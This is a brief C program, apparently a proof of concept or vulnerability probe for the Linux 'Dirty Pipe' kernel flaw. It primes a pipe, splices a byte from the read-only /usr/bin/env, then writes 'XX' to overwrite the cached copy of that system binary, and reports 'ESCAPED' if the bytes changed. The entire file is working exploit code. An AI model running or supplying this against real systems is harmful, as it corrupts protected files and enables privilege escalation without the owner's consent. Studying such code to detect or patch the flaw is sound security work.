#include "attack.h"

int main(void) {
  int p[2], f = open("/usr/bin/env", O_RDONLY);
  pipe(p);
  static char b[65536];
  for (int i = 0; i < 16; i++) write(p[1], b, 4096);
  for (int i = 0; i < 16; i++) read(p[0], b, 4096);
  off_t at = 0;
  char was[2], now[2];
  pread(f, was, 2, 1);
  splice(f, &at, p[1], 0, 1, 0);
  write(p[1], "XX", 2);
  pread(f, now, 2, 1);
  puts(memcmp(was, now, 2) ? "ESCAPED" : "unchanged");
}
